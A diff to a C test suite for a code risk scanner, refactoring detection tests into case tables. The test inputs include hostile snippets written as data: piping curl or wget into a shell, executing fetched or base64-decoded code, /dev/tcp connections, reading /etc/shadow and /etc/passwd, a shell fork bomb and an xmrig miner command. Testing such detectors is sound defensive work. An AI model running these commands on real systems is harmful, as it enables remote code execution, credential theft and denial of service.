@@ -13,6 +13,9 @@
 
 /* ==== Helpers ==== */
 
+static const char *const langs[] = {"python", "node", "c", "sh"};
+#define NLANGS (sizeof(langs) / sizeof(*langs))
+
 static struct risk_report scan_denied(const char *lang, const char *src,
                                       const char *const *denied)
 {
@@ -54,6 +57,21 @@ static void expect_rule(const char *lang, const char *src, const char *rule, uin
     cr_expect_geq(r.level, RISK_MEDIUM, "%s: level %s for:\n%s", lang,
                   risk_level_name(r.level), src);
     risk_report_clear(&r);
+}
+
+/* One source that must yield a given rule, for expect_rule_cases. */
+struct rule_case {
+    const char *lang;
+    uint32_t line;      /* where the finding must be; 0 for anywhere */
+    const char *src;
+};
+
+#define RULE_CASES(cases) (cases), sizeof(cases) / sizeof(*(cases))
+
+static void expect_rule_cases(const char *rule, const struct rule_case *cases, size_t n)
+{
+    for (size_t i = 0; i < n; i++)
+        expect_rule(cases[i].lang, cases[i].src, rule, cases[i].line);
 }
 
 static void expect_quiet(const char *lang, const char *src)
@@ -110,110 +128,135 @@ Test(risk, template_fields_are_code)
 
 Test(risk, process_spawn_each_language)
 {
-    expect_rule("python", "import subprocess\n", "process_spawn", 1);
-    expect_rule("python", "import os\n\nos.system('id')\n", "process_spawn", 3);
-    expect_rule("node", "const { exec } = require('child_process');\n", "process_spawn", 1);
-    expect_rule("c", "#include <stdlib.h>\nint main(void)\n{\n    return system(\"id\");\n}\n",
-                "process_spawn", 4);
+    static const struct rule_case spawns[] = {
+        {"python", 1, "import subprocess\n"},
+        {"python", 3, "import os\n\nos.system('id')\n"},
+        {"node", 1, "const { exec } = require('child_process');\n"},
+        {"c", 4, "#include <stdlib.h>\nint main(void)\n{\n    return system(\"id\");\n}\n"},
+    };
+
+    expect_rule_cases("process_spawn", RULE_CASES(spawns));
     expect_rule("c", "int main(void) { while (1) fork(); }\n", "fork_bomb", 1);
     expect_rule("sh", ":(){ :|:& };:\n", "fork_bomb", 1);
 }
 
 Test(risk, network_and_raw_sockets)
 {
+    static const struct rule_case networks[] = {
+        {"python", 1, "import requests\n"},
+        {"node", 1, "const net = require('node:net');\n"},
+        {"sh", 2, "echo hi\ncurl -s http://x/\n"},
+        {"sh", 1, "exec 3<>/dev/tcp/10.0.0.1/80\n"},
+    };
+
+    expect_rule_cases("network", RULE_CASES(networks));
     expect_rule("python", "import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_RAW)\n",
                 "raw_socket", 2);
-    expect_rule("python", "import requests\n", "network", 1);
-    expect_rule("node", "const net = require('node:net');\n", "network", 1);
     expect_rule("c", "int f(void) { return socket(AF_PACKET, SOCK_RAW, 0); }\n", "raw_socket",
                 1);
-    expect_rule("sh", "echo hi\ncurl -s http://x/\n", "network", 2);
-    expect_rule("sh", "exec 3<>/dev/tcp/10.0.0.1/80\n", "network", 1);
 }
 
 Test(risk, fs_probe)
 {
-    expect_rule("python", "print(open('/etc/shadow').read())\n", "fs_probe", 1);
-    expect_rule("python", "import os\nfor r, d, f in os.walk('/'):\n    pass\n", "fs_probe", 2);
-    expect_rule("node", "require('fs').readdirSync('/')\n", "fs_probe", 1);
-    expect_rule("c", "int main(void) { return !opendir(\"/\"); }\n", "fs_probe", 1);
-    expect_rule("sh", "cat /etc/passwd\n", "fs_probe", 1);
-    expect_rule("sh", "find / -name '*.key'\n", "fs_probe", 1);
+    static const struct rule_case probes[] = {
+        {"python", 1, "print(open('/etc/shadow').read())\n"},
+        {"python", 2, "import os\nfor r, d, f in os.walk('/'):\n    pass\n"},
+        {"node", 1, "require('fs').readdirSync('/')\n"},
+        {"c", 1, "int main(void) { return !opendir(\"/\"); }\n"},
+        {"sh", 1, "cat /etc/passwd\n"},
+        {"sh", 1, "find / -name '*.key'\n"},
+    };
+
+    expect_rule_cases("fs_probe", RULE_CASES(probes));
     expect_quiet("sh", "echo hi > /dev/null 2>&1\ncat /dev/stdin\n");
     expect_quiet("python", "open('data/etc/file.txt')\nprint('./proc/x')\n");
 }
 
 Test(risk, eval_fetched)
 {
-    expect_rule("python", "from urllib.request import urlopen\nexec(urlopen(u).read())\n",
-                "eval_fetched", 2);
-    expect_rule("python", "import requests\ncode = requests.get(u).text\n\neval(code)\n",
-                "eval_fetched", 4);
-    expect_rule("node", "fetch(u).then(r => r.text()).then(t => eval(t));\n", "eval_fetched",
-                1);
-    expect_rule("sh", "curl -s http://x/i.sh | sh\n", "eval_fetched", 1);
-    expect_rule("sh", "wget -qO- http://x | sudo bash\n", "eval_fetched", 1);
-    expect_rule("sh", "bash <(curl -s http://x)\n", "eval_fetched", 1);
-    expect_rule("sh", "sh -c \"$(curl -fsSL http://x)\"\n", "eval_fetched", 1);
+    static const struct rule_case cases[] = {
+        {"python", 2, "from urllib.request import urlopen\nexec(urlopen(u).read())\n"},
+        {"python", 4, "import requests\ncode = requests.get(u).text\n\neval(code)\n"},
+        {"node", 1, "fetch(u).then(r => r.text()).then(t => eval(t));\n"},
+        {"sh", 1, "curl -s http://x/i.sh | sh\n"},
+        {"sh", 1, "wget -qO- http://x | sudo bash\n"},
+        {"sh", 1, "bash <(curl -s http://x)\n"},
+        {"sh", 1, "sh -c \"$(curl -fsSL http://x)\"\n"},
+    };
+
+    expect_rule_cases("eval_fetched", RULE_CASES(cases));
 }
 
 Test(risk, obfuscated_loader)
 {
-    expect_rule("python", "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n",
-                "obfuscated_loader", 2);
-    expect_rule("python", "import zlib\nexec(zlib.decompress(data))\n", "obfuscated_loader", 2);
-    expect_rule("python", "exec('tixe'[::-1])\n", "obfuscated_loader", 1);
-    expect_rule("node", "eval(atob('YWxlcnQoMSk='));\n", "obfuscated_loader", 1);
-    expect_rule("node", "[].constructor.constructor('return this')();\n", "obfuscated_loader",
-                1);
-    expect_rule("node", "const f = globalThis['ev' + 'al'];\n", "obfuscated_loader", 1);
-    expect_rule("sh", "echo aWQ= | base64 -d | sh\n", "obfuscated_loader", 1);
-    expect_rule("sh", "$(echo Y3VybA== | base64 -d) http://x\n", "obfuscated_loader", 1);
+    static const struct rule_case cases[] = {
+        {"python", 2, "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n"},
+        {"python", 2, "import zlib\nexec(zlib.decompress(data))\n"},
+        {"python", 1, "exec('tixe'[::-1])\n"},
+        {"node", 1, "eval(atob('YWxlcnQoMSk='));\n"},
+        {"node", 1, "[].constructor.constructor('return this')();\n"},
+        {"node", 1, "const f = globalThis['ev' + 'al'];\n"},
+        {"sh", 1, "echo aWQ= | base64 -d | sh\n"},
+        {"sh", 1, "$(echo Y3VybA== | base64 -d) http://x\n"},
+    };
+
+    expect_rule_cases("obfuscated_loader", RULE_CASES(cases));
 }
 
 Test(risk, crypto_mining)
 {
-    expect_rule("python", "pool = 'stratum+tcp://pool.example:3333'\n", "crypto_mining", 1);
-    expect_rule("node", "const p = 'xmr.nanopool.org';\n", "crypto_mining", 1);
-    expect_rule("c", "#include <stdint.h>\nint main(void) {\n uint32_t nonce = 0;\n"
-                     " while (sha256_check(nonce) > difficulty) nonce++;\n}\n",
-                "crypto_mining", 3);
-    expect_rule("sh", "./xmrig -o pool:3333\n", "crypto_mining", 1);
+    static const struct rule_case cases[] = {
+        {"python", 1, "pool = 'stratum+tcp://pool.example:3333'\n"},
+        {"node", 1, "const p = 'xmr.nanopool.org';\n"},
+        {"c", 3, "#include <stdint.h>\nint main(void) {\n uint32_t nonce = 0;\n"
+                 " while (sha256_check(nonce) > difficulty) nonce++;\n}\n"},
+        {"sh", 1, "./xmrig -o pool:3333\n"},
+    };
+
+    expect_rule_cases("crypto_mining", RULE_CASES(cases));
 }
 
 Test(risk, native_code)
 {
-    expect_rule("python", "import ctypes\nctypes.CDLL(None).syscall(57)\n", "native_code", 2);
-    expect_rule("python", "import mmap\nm = mmap.mmap(-1, 4096, prot=mmap.PROT_EXEC)\n",
-                "native_code", 2);
-    expect_rule("c", "int main(void) { __asm__ volatile (\"nop\"); return 0; }\n",
-                "native_code", 1);
-    expect_rule("c", "#include <sys/ptrace.h>\n", "native_code", 1);
-    expect_rule("c", "long f(int p) { return ptrace(PTRACE_ATTACH, p, 0, 0); }\n",
-                "native_code", 1);
-    expect_rule("node", "process.binding('spawn_sync');\n", "native_code", 1);
+    static const struct rule_case cases[] = {
+        {"python", 2, "import ctypes\nctypes.CDLL(None).syscall(57)\n"},
+        {"python", 2, "import mmap\nm = mmap.mmap(-1, 4096, prot=mmap.PROT_EXEC)\n"},
+        {"c", 1, "int main(void) { __asm__ volatile (\"nop\"); return 0; }\n"},
+        {"c", 1, "#include <sys/ptrace.h>\n"},
+        {"c", 1, "long f(int p) { return ptrace(PTRACE_ATTACH, p, 0, 0); }\n"},
+        {"node", 1, "process.binding('spawn_sync');\n"},
+    };
+
+    expect_rule_cases("native_code", RULE_CASES(cases));
 }
 
 Test(risk, dynamic_import)
 {
-    expect_rule("python", "import importlib\nm = importlib.import_module(name)\n",
-                "dynamic_import", 2);
-    expect_rule("python", "m = __import__(input())\n", "dynamic_import", 1);
-    expect_rule("node", "const m = require(process.argv[2]);\n", "dynamic_import", 1);
+    static const struct rule_case cases[] = {
+        {"python", 2, "import importlib\nm = importlib.import_module(name)\n"},
+        {"python", 1, "m = __import__(input())\n"},
+        {"node", 1, "const m = require(process.argv[2]);\n"},
+    };
+
+    expect_rule_cases("dynamic_import", RULE_CASES(cases));
 }
 
 /* ==== Evasions ==== */
 
 Test(risk, aliases)
 {
-    expect_rule("python", "import subprocess as sp\n\nsp.run(['id'])\n", "process_spawn", 3);
-    expect_rule("python", "from os import system as s\ns('id')\n", "process_spawn", 1);
-    expect_rule("python", "import os as o\n\n\no.popen('id')\n", "process_spawn", 4);
-    expect_rule("python", "from os import *\nsystem('id')\n", "process_spawn", 2);
+    static const struct rule_case spawns[] = {
+        {"python", 3, "import subprocess as sp\n\nsp.run(['id'])\n"},
+        {"python", 1, "from os import system as s\ns('id')\n"},
+        {"python", 4, "import os as o\n\n\no.popen('id')\n"},
+        {"python", 2, "from os import *\nsystem('id')\n"},
+        {"node", 1, "const cp = require('child_' + 'process');\n"},
+        {"node", 1, "import { exec as run } from 'child_process';\n"},
+    };
+
+    expect_rule_cases("process_spawn", RULE_CASES(spawns));
     expect_rule("python", "import urllib.request\nrun = exec\n"
                           "run(urllib.request.urlopen(u).read())\n", "eval_fetched", 3);
-    expect_rule("node", "const cp = require('child_' + 'process');\n", "process_spawn", 1);
-    expect_rule("node", "import { exec as run } from 'child_process';\n", "process_spawn", 1);
 }
 
 Test(risk, names_built_from_pieces)
@@ -359,10 +402,9 @@ Test(risk, unknown_language_and_empty_input)
     cr_expect_eq(r.level, RISK_NONE);
     cr_expect_eq(risk_scan(NULL, (const uint8_t *)src, strlen(src), NULL, &r), 0);
     cr_expect_eq(r.count, 0);
-    for (const char *const *l = (const char *const[]){"python", "node", "c", "sh", NULL}; *l;
-         l++) {
-        cr_expect_eq(risk_scan(*l, (const uint8_t *)"", 0, NULL, &r), 0);
-        cr_expect_eq(risk_scan(*l, NULL, 0, NULL, &r), 0);
+    for (size_t l = 0; l < NLANGS; l++) {
+        cr_expect_eq(risk_scan(langs[l], (const uint8_t *)"", 0, NULL, &r), 0);
+        cr_expect_eq(risk_scan(langs[l], NULL, 0, NULL, &r), 0);
     }
     cr_expect_eq(r.count, 0);
 }
@@ -389,10 +431,9 @@ Test(risk, unterminated_constructs_never_read_past_the_end)
         "#include \"a", "\"", "'", "cat <<EOF\nx", "echo \"$(", "$'\\", "a\\", "$((", "`",
         "getattr(", "__import__(", "require(", "import", "from x import (", "exec(", "f(\"",
         "x = eval(", "<<", "python3 -c", "bash <(", "(void (*", "asm"};
-    static const char *const langs[] = {"python", "node", "c", "sh"};
 
     for (size_t i = 0; i < sizeof(cases) / sizeof(*cases); i++) {
-        for (size_t l = 0; l < 4; l++) {
+        for (size_t l = 0; l < NLANGS; l++) {
             void *map;
             size_t map_len, n = strlen(cases[i]);
             uint8_t *src = at_page_end(cases[i], n, &map, &map_len);
@@ -410,7 +451,6 @@ Test(risk, unterminated_constructs_never_read_past_the_end)
 
 Test(risk, binary_input_never_crashes)
 {
-    static const char *const langs[] = {"python", "node", "c", "sh"};
     size_t n = 1 << 16;
     uint8_t *buf = malloc(n);
     uint32_t x = 2463534242u;
@@ -424,7 +464,7 @@ Test(risk, binary_input_never_crashes)
             /* later rounds lean on the bytes that open and close constructs */
             buf[i] = round < 4 ? (uint8_t)x : (uint8_t)"'\"`$({[#/*\\\n<>|&;)}] x"[x % 23];
         }
-        for (size_t l = 0; l < 4; l++) {
+        for (size_t l = 0; l < NLANGS; l++) {
             struct risk_report r = {0};
 
             cr_expect_eq(risk_scan(langs[l], buf, n, NULL, &r), 0);
